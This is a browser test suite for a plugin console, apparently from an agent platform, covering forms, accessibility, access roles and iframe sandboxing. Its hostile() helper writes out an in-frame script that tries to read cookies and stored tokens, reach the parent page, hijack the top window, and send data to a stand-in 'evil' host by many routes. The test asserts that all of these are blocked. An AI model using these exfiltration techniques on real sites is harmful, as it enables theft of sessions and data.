import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import type { AxeResults } from 'axe-core';
import { openBrowser, type Browser } from '@agent-factory/test-servers';
import type { ConsoleMessage } from '@agent-factory/sdk/contracts';
import { board, bootConsole, showing, type ConsolePlatform } from './support/console-platform.ts';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

/** What a document in a frame tries; it says of each try what came of it, and then tries to leave. */
function hostile(evil: string): string {
  return `<p>Nothing to see.</p><script>
const evil = ${JSON.stringify(evil)};
const soon = (tried) => Promise.race([tried, new Promise((_, no) => setTimeout(no, 4000, new Error('late')))]);
const onOrError = (thing) => new Promise((yes, no) => { thing.onload = yes; thing.onopen = yes; thing.onerror = () => no(new Error('blocked')); });
const added = (name, members) => {
  const made = Object.assign(document.createElement(name), members);
  const done = onOrError(made);
  document.body.append(made);
  return done;
};
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.getItem('token'),
  session: () => sessionStorage.length,
  database: () => new Promise((yes, no) => { const asked = indexedDB.open('x'); asked.onsuccess = yes; asked.onerror = no; }),
  caches: () => caches.keys(),
  parentDocument: () => parent.document.title,
  parentAddress: () => parent.location.href,
  parentScript: () => parent.eval('1'),
  topAddress: () => { top.location.href = evil + '/top'; },
  topReplaced: () => { top.location.replace('javascript:fetch("' + evil + '/script")'); },
  window: () => { if (!open(evil + '/window')) throw new Error('blocked'); },
  platform: async () => (await fetch(${JSON.stringify('/api/v1/openapi.json')})).status,
  fetched: async () => (await fetch(evil + '/fetch', { mode: 'no-cors' })).type,
  request: () => new Promise((yes, no) => { const asked = new XMLHttpRequest(); asked.onload = yes; asked.onerror = no; asked.open('GET', evil + '/xhr'); asked.send(); }),
  picture: () => added('img', { src: evil + '/img' }),
  script: () => added('script', { src: evil + '/js' }),
  style: () => added('link', { rel: 'stylesheet', href: evil + '/css' }),
  socket: () => onOrError(new WebSocket(evil.replace('http', 'ws') + '/ws')),
  events: () => onOrError(new EventSource(evil + '/events')),
  worker: () => new Promise((yes, no) => { const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); made.onmessage = yes; made.onerror = no; }),
  service: () => navigator.serviceWorker.register('/console'),
};
// These say nothing of how they went: the server they name does.
const silent = [
  () => navigator.sendBeacon(evil + '/beacon'),
  () => document.body.append(Object.assign(document.createElement('iframe'), { src: evil + '/iframe' })),
  () => document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: evil + '/prefetch' })),
  () => {
    const form = Object.assign(document.createElement('form'), { action: evil + '/form', method: 'post' });
    document.body.append(form);
    form.submit();
  },
];
(async () => {
  const worked = {};
  const blocked = [];
  await Promise.all(Object.entries(tries).map(async ([name, run]) => {
    try { worked[name] = String(await soon(run())); } catch { blocked.push(name); }
  }));
  for (const run of silent) try { run(); } catch {}
  parent.postMessage({ id: 'report', message: { worked, blocked, origin: self.origin } }, '*');
})();
addEventListener('message', ({ data }) => {
  if (data.id !== 'report') return;
  location.href = evil + '/left?' + encodeURIComponent(JSON.stringify(data.answer));
});
</script>`;
}

describe('pages of plugins in a browser', function () {
  this.timeout(60_000);
  let platform: ConsolePlatform;
  let browser: Browser;
  let server: Server;
  const hits: string[] = [];
  const reports: unknown[] = [];

  before(async function () {
    const found = await openBrowser();
    if (!found) return this.skip();
    browser = found;
    server = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x');
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`; // a TCP server's is never a string
    const call = async ({ message }: ConsoleMessage) => {
      reports.push(message);
      return 'a secret';
    };
    const talk = `<output id="told"></output><script>
      addEventListener('message', ({ data }) => { told.textContent += JSON.stringify(data) + ' '; });
      parent.postMessage('no message', '*');
      parent.postMessage({ id: 1, message: { city: 'Oslo' } }, '*');
      parent.postMessage({ id: 2, message: 1n }, '*');
    </script>`;
    platform = await bootConsole([
      showing('team', [
        board,
        {
          id: 'hostile',
          title: 'Hostile',
          frame: { html: async () => hostile(evil), call },
        },
        {
          id: 'talk',
          title: 'Talk',
          frame: { html: async () => talk, call: async ({ message }: ConsoleMessage) => ({ said: message }) },
        },
      ]),
    ]);
  });
  after(async () => {
    await browser?.close();
    await platform?.kernel.close();
    server?.close();
  });

  it('sends a form, and shows what the page says in its place', async () => {
    const page = await browser.newPage();
    await page.goto(`${platform.url}/console`);
    await page.getByRole('link', { name: 'Board' }).click();
    await page.getByLabel('Name').fill('<i>Ada</i>');
    await page.getByLabel('Times').fill('3');
    await page.getByLabel('Loud').uncheck();
    await page.getByRole('button', { name: 'Greet' }).click();
    await page.getByRole('link', { name: 'Back to Board' }).waitFor();
    const told = (await page.textContent('main')) ?? '';
    assert.match(told, /greet for default: \{"querySelectorAll":"<i>Ada<\/i>","times":3,"words":"\\nHi"/);
    assert.match(told, /"tone":"plain","loud":false/);
    await page.close();
  });

  it('says beside the form why it was not taken', async () => {
    const page = await browser.newPage();
    await page.goto(`${platform.url}/console/team/board`);
    await page.route('**/console/team/board', (route) =>
      route.fulfill({ status: 403, json: { detail: '<b>No.</b>', fix: 'Ask.' } }),
    );
    await page.getByLabel('Name').fill('Ada');
    await page.getByRole('button', { name: 'Greet' }).click();
    await page.getByText('<b>No.</b> Ask.').waitFor();
    await page.close();
  });

  for (const [address, colorScheme, width] of [
    ['/console', 'light', 1200],
    ['/console/team/board', 'light', 380],
    ['/console/team/board', 'dark', 1200],
    ['/console/team/talk', 'dark', 1200],
  ] as const)
    it(`is accessible: ${address}, ${colorScheme}, ${width} wide`, async () => {
      const viewport = { width, height: 900 };
      const context = await browser.newContext({ colorScheme, viewport, bypassCSP: true });
      const page = await context.newPage();
      await page.goto(platform.url + address);
      await page.evaluate(axe);
      // The script that was just evaluated puts `axe` there.
      const { violations } = await page.evaluate<AxeResults>(
        'axe.run({ exclude: ["iframe"] }, { runOnly: ["wcag2a", "wcag2aa", "wcag21aa"] })',
      );
      const told = violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`);
      assert.deepEqual(told, []);
      const overflow = await page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
      assert.ok(overflow <= 0, `it is ${overflow} pixels wider than the window`);
      await context.close();
    });

  it('is read without scripts', async () => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    const page = await context.newPage();
    await page.goto(`${platform.url}/console/team/board`);
    assert.equal(await page.getByRole('columnheader', { name: 'Degrees' }).count(), 1);
    assert.match((await page.textContent('main')) ?? '', /Forms and frames of this page need scripts/);
    await context.close();
  });

  it('lets a frame talk with its plugin, and nobody else', async () => {
    const page = await browser.newPage();
    await page.goto(`${platform.url}/console/team/talk`);
    const told = page.frameLocator('iframe').locator('#told');
    await told.getByText(/"id":2/).waitFor();
    const text = (await told.textContent()) ?? '';
    assert.match(text, /\{"id":1,"answer":\{"said":\{"city":"Oslo"\}\}\}/);
    assert.match(text, /\{"id":2,"problem":\{"code":"AF_CONSOLE_MESSAGE_FAILED"/);
    await page.close();
  });

  it('keeps a frame from everything else', async () => {
    const context = await browser.newContext();
    await context.addCookies([{ name: 'session', value: 'canary', url: platform.url }]);
    const page = await context.newPage();
    const messages: string[] = [];
    page.on('console', (message) => messages.push(message.text()));
    await page.goto(`${platform.url}/console`);
    await page.evaluate("localStorage.setItem('token', 'canary')");
    const stopped =
      /^Framing .* violates the following Content Security Policy directive: "frame-src 'self'"/;
    const left = page.waitForEvent('console', { predicate: (one) => stopped.test(one.text()) });
    await page.goto(`${platform.url}/console/team/hostile`);
    await left;
    const [report] = reports as { worked: object; blocked: string[]; origin: string }[]; // as the document says
    assert.deepEqual(report?.worked, {}, messages.join('\n'));
    assert.equal(report?.blocked.length, 21);
    assert.equal(report?.origin, 'null');
    assert.equal(new URL(page.url()).pathname, '/console/team/hostile');
    assert.equal(context.pages().length, 1);
    assert.deepEqual(hits, []);
    assert.equal(await page.title(), 'Hostile – agent-factory');
    await context.close();
  });

  it('sends forms and messages with the token of the session, and only for those who may', async () => {
    const frame = {
      html: async () => `<script>
        onmessage = ({ data }) => document.body.append(JSON.stringify(data));
        parent.postMessage({ id: 1, message: 'Hi' }, '*');
      </script>`,
      call: async ({ message }: ConsoleMessage) => ({ said: message }),
    };
    const shared = await bootConsole([showing('team', [{ ...board, frame }])], { login: true });
    try {
      for (const [role, answer, said] of [
        ['operator', /"answer":\{"said":"Hi"\}/, /greet for acme/],
        ['viewer', /"problem":\{"code":"AF_ACCESS_DENIED"/, /console:write/],
      ] as const) {
        const context = await browser.newContext();
        await context.addCookies([{ ...(await shared.session(role)), url: shared.url }]);
        const page = await context.newPage();
        await page.goto(`${shared.url}/console/team/board`);
        await page.frameLocator('iframe').getByText(answer).waitFor();
        await page.getByLabel('Name').fill('Ada');
        await page.getByRole('button', { name: 'Greet' }).click();
        await page.getByText(said).waitFor();
        await context.close();
      }
    } finally {
      await shared.kernel.close();
    }
  });

  it('shows no frame by itself', async () => {
    const page = await browser.newPage();
    const answer = await page.goto(`${platform.url}/console/team/talk/frame`);
    assert.equal(answer?.status(), 403);
    await page.close();
  });
});
